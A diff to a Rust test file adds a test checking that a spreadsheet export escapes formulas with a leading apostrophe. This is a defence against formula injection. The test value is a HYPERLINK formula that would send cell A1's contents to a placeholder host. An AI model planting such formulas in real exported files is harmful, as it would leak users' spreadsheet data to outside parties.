@@ -411,3 +411,21 @@ fn a_source_that_fails_is_said() {
     assert_eq!(std::error::Error::source(&error).unwrap().to_string(), "the disk is gone");
     assert!(reports.next().is_none());
 }
+
+#[test]
+fn a_spreadsheet_runs_no_cell() {
+    let mut form = Form::new(Edition::V2019);
+    let [decisions, change] =
+        ["proactive.licensing.decisions", "proactive.licensing.change"].map(|path| path.parse::<Cell>().unwrap());
+    form.set(decisions, "=HYPERLINK(\"http://example.invalid/?\"&A1,\"149\")");
+    form.set(change, -3);
+    let table = write(&form, Separator::Spreadsheet);
+    let lines: Vec<&str> = table.split("\r\n").collect();
+    assert_eq!(lines[0], "\u{feff}\"path\",\"state\",\"value\",\"unit\",\"note\"");
+    let line = |path: &str| *lines.iter().find(|line| line.contains(path)).unwrap();
+    let text = r#""proactive.licensing.decisions","text","'=HYPERLINK(""http://example.invalid/?""&A1,""149"")","","""#;
+    assert_eq!(line("licensing.decisions"), text);
+    assert_eq!(line("licensing.change"), "\"proactive.licensing.change\",\"number\",\"-3\",\"\",\"\"");
+    let back = tidy::read(table.as_bytes(), Separator::Spreadsheet).unwrap();
+    assert_eq!(back.get(decisions), form.get(decisions));
+}
